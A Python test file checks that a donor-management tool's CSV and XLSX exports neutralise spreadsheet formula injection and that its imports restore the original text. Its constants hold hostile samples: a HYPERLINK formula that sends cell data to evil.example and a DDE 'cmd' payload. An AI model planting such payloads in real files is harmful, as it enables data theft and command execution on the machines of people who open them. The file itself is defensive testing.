"""Spreadsheet formula injection (issue 13, item 7): text that arrives through the
portal, Stripe and imports never runs as a formula in a file we write.

Every CSV writer (`anbi export`, the receipts manifest, the web's donations and
LYBUNT/SYBUNT downloads) puts a `'` before a text cell that starts with `=`, `+`,
`-`, `@`, tab or carriage return, and leaves numbers alone; every XLSX writer
(`anbi export --format xlsx`, the grant report, the income statement) writes such
text as a string cell. The import files take the `'` off again."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.orm import Session

from anbi.core.csvfile import read_csv
from anbi.core.spreadsheet import csv_text, from_csv_text
from tests.factories import active_sheet, make_agreement, make_campaign, make_donation, make_donor

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
CITY = "+cmd|' /C calc'!A0"
STREET = "@SUM(1+1)"
PHONE = "+31 6 12345678"
SUFFIX = "-A"
TABBED = "\t=1+1"
RETURNED = "\r=1+1"
HOSTILE = (NAME, CITY, STREET, PHONE, SUFFIX, TABBED, RETURNED)


# --- the rule ---------------------------------------------------------------------


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+31 6 12345678", "'+31 6 12345678"), ("-A", "'-A"), ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("'=1", "''=1"),
    ("Jansen", "Jansen"), ("'s-Hertogenbosch", "'s-Hertogenbosch"), ("'t Zand", "'t Zand"), ("", ""),
    ("a=b", "a=b"), ("1234.56", "1234.56"),
])
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_quote(text, written):
    assert csv_text(text) == written
    assert from_csv_text(written) == text


@given(st.text())
def test_every_text_survives_writing_and_reading(text):
    assert from_csv_text(csv_text(text)) == text
    assert not csv_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))


# --- anbi export ------------------------------------------------------------------


def hostile_records(engine):
    with Session(engine) as session:
        make_campaign(session, code="-C1", name="@campagne")
        donor = make_donor(session, ref="=D1", first_name=NAME, last_name="Berg", street=STREET, city=CITY,
                           phone=PHONE, house_number_suffix=SUFFIX, organisation_name=TABBED, email=RETURNED)
        make_donation(session, donor=donor, reference="@G1", date="2025-03-01", amount="25.00")
        make_agreement(session, donor=donor, number="+PG-1", annual_amount="600.00", start_date="2024-01-01", years=5)
        session.commit()


def _csv_rows(path, delimiter=",", encoding="utf-8"):
    return list(csv.reader(io.StringIO(path.read_bytes().decode(encoding), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("dutch", [False, True])
def test_export_csv_quotes_every_hostile_text_cell_and_no_number(cli, engine, tmp_path, dutch):
    hostile_records(engine)
    for what in ("donors", "donations", "agreements"):
        out = tmp_path / f"{what}.csv"
        result = cli("export", what, "--format", "csv", "--out", str(out), *(["--dutch"] if dutch else []))
        assert result.exit_code == 0, result.stderr
        rows = _csv_rows(out, ";" if dutch else ",", "utf-8-sig" if dutch else "utf-8")
        header, cells = rows[0], [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], (what, cells)
        if what == "donors":
            record = dict(zip(header, rows[1]))
            assert (record["ref"], record["first_name"], record["street"], record["city"], record["phone"],
                    record["house_number_suffix"], record["organisation"], record["email"]) == (
                "'=D1", "'" + NAME, "'" + STREET, "'" + CITY, "'" + PHONE, "'" + SUFFIX, "'" + TABBED, "'" + RETURNED)
        if what == "donations":
            record = dict(zip(header, rows[1]))
            assert (record["reference"], record["donor_ref"]) == ("'@G1", "'=D1")
            assert record["amount"] == ("25,00" if dutch else "25.00")  # a number: never quoted


def test_export_csv_reads_back_as_it_was_stored(cli, engine, tmp_path):
    """A phone number `+31 …` and the other texts survive an export and an import."""
    hostile_records(engine)
    out = tmp_path / "donors.csv"
    assert cli("export", "donors", "--format", "csv", "--out", str(out)).exit_code == 0
    columns = _csv_rows(out)[0]
    read = read_csv(out, required=["ref"], optional=[c for c in columns if c != "ref"])
    values = read.rows[0].values
    assert (values["ref"], values["first_name"], values["street"], values["city"], values["phone"],
            values["house_number_suffix"]) == ("=D1", NAME, STREET, CITY, PHONE, SUFFIX)


def test_export_xlsx_writes_hostile_text_as_strings_and_numbers_as_numbers(cli, engine, tmp_path):
    hostile_records(engine)
    for what in ("donors", "donations", "agreements"):
        out = tmp_path / f"{what}.xlsx"
        assert cli("export", what, "--format", "xlsx", "--out", str(out)).exit_code == 0
        sheet = openpyxl.load_workbook(out).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], what
        texts = {c.value for c in cells if c.data_type == "s"}
        if what == "donors":
            assert {"=D1", NAME, STREET, CITY, PHONE, SUFFIX} <= texts
        if what == "donations":
            assert {"@G1", "=D1"} <= texts
            assert 25 in {c.value for c in cells if c.data_type == "n"}
        if what == "agreements":
            assert "+PG-1" in texts


def test_grants_export_writes_a_hostile_title_as_text(cli, engine, tmp_path, session):
    from tests.factories import make_grant

    make_grant(session, reference="=G-1", title="=HYPERLINK(1)")
    session.commit()
    out = tmp_path / "grants.csv"
    assert cli("export", "grants", "--format", "csv", "--out", str(out)).exit_code == 0
    header, row = _csv_rows(out)[:2]
    assert dict(zip(header, row))["title"] == "'=HYPERLINK(1)" and dict(zip(header, row))["reference"] == "'=G-1"
    out = tmp_path / "grants.xlsx"
    assert cli("export", "grants", "--format", "xlsx", "--out", str(out)).exit_code == 0
    sheet = active_sheet(out)
    assert [(c.value, c.data_type) for c in sheet[2][:2]] == [("=G-1", "s"), ("=HYPERLINK(1)", "s")]


# --- the receipts manifest ------------------------------------------------------


def test_receipts_manifest_quotes_a_hostile_donor_ref(engine, tmp_path):
    from anbi.core.db import session_scope
    from exports.statements.issue import issue_statements
    from tests.exports.receipt_support import ORGANISATION, manifest

    with Session(engine) as session:
        donor = make_donor(session, ref="=HYPERLINK(1)", first_name="Anna", last_name="Berg")
        make_donation(session, donor=donor, reference="R1", date="2025-03-01", amount="100.00")
        session.commit()
    issue_statements(lambda: session_scope(engine), year=2025, out_dir=tmp_path / "out", organisation=ORGANISATION,
                     actor="test")
    (row,) = manifest(tmp_path / "out")
    assert row["donor_ref"] == "'=HYPERLINK(1)"
    assert row["total_paid"] == "100.00"


# --- the grant report and the income statement in XLSX ----------------------------


def test_grant_report_xlsx_keeps_a_hostile_cost_description_as_text(session, tmp_path):
    from exports.reports.commands import write_grant_report
    from tests.factories import make_expense, make_grant

    make_grant(session, reference="AMIF-X", title="@titel", budget=[("STAFF", "=Personeel", "8000.00")])
    make_expense(session, grant="AMIF-X", budget_line="STAFF", amount="100.00", date="2025-04-01",
                 reference="=X1", description=NAME)
    session.commit()
    path = tmp_path / "grant.xlsx"
    write_grant_report(session, "AMIF-X", "xlsx", path, organisation="+Stichting")
    workbook = openpyxl.load_workbook(path)
    costs = workbook["Kosten"]
    assert [(costs.cell(2, c).value, costs.cell(2, c).data_type) for c in (1, 4)] == [("=X1", "s"), (NAME, "s")]
    assert costs.cell(2, 7).data_type == "f"  # our own formula stays one
    report = workbook["Verantwoording"]
    texts = {cell.value for row in report.iter_rows() for cell in row if cell.data_type == "s"}
    assert {"=Personeel", "@titel", "+Stichting"} <= texts


def test_income_statement_xlsx_keeps_a_hostile_organisation_name_as_text(tmp_path):
    from exports.reports.income_statement import write_xlsx
    from subsidies.income import IncomeStatement

    path = tmp_path / "income.xlsx"
    write_xlsx(path, 2025, IncomeStatement(2025), IncomeStatement(2024), organisation="=cmd")
    cell = active_sheet(path)["A1"]
    assert (cell.value, cell.data_type) == ("Staat van baten 2025 — =cmd", "s")


# --- importing: the quote is taken off ---------------------------------------------


def test_a_quoted_phone_number_is_imported_without_the_quote(cli, tmp_path, session):
    from donors.models import Donor

    path = tmp_path / "donors.csv"
    path.write_text("ref,last_name,phone,city\nQ1,Jansen,'+31 6 12345678,'s-Hertogenbosch\n", encoding="utf-8")
    result = cli("donors", "import", str(path))
    assert result.exit_code == 0, result.stderr
    donor = session.query(Donor).filter_by(ref="Q1").one()
    assert donor.phone.startswith("+31") and donor.city == "'s-Hertogenbosch"
